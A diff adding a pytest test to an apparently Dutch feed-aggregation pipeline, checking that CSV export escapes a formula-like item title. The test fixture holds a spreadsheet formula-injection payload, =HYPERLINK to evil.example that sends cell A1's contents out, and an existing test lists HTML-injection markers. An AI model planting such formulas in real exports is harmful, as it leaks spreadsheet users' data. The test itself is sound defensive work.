@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import json
 import sqlite3
 from pathlib import Path
@@ -10,6 +12,7 @@ from typing import Any
 
 import pytest
 import yaml
+from conftest import Cli
 from feedserver import FeedServer
 
 from pipeline.collect import collect
@@ -382,3 +385,19 @@ def test_demo_hostile_entry_is_clean(cli, demo_root: Path):
     assert item.title == "Sportpas voor alle kinderen"
     for bad in ("<script", "onclick", "javascript:", "<iframe", "<style", "<form", "<!--"):
         assert bad not in item.summary_html.lower()
+
+
+def test_cli_items_csv_shows_a_formula_like_title_as_text(tmp_path: Path, server: FeedServer):
+    title = '=HYPERLINK("https://evil.example/?d="&amp;A1,"klik")'
+    url = server.route(
+        "/f.rss", rss((title, "https://www.example.nl/f"), ("Gewoon", "https://www.example.nl/g"))
+    )
+    root = instance(tmp_path, {"gemeente-zwolle": url})
+    run(root)
+    rows = list(csv.DictReader(io.StringIO(Cli(root)("items", "--format", "csv").stdout)))
+    assert sorted(r["title"] for r in rows) == [
+        '\'=HYPERLINK("https://evil.example/?d="&A1,"klik")',
+        "Gewoon",
+    ]
+    as_json = json.loads(Cli(root)("items", "--format", "json").stdout)
+    assert '=HYPERLINK("https://evil.example/?d="&A1,"klik")' in {r["title"] for r in as_json}
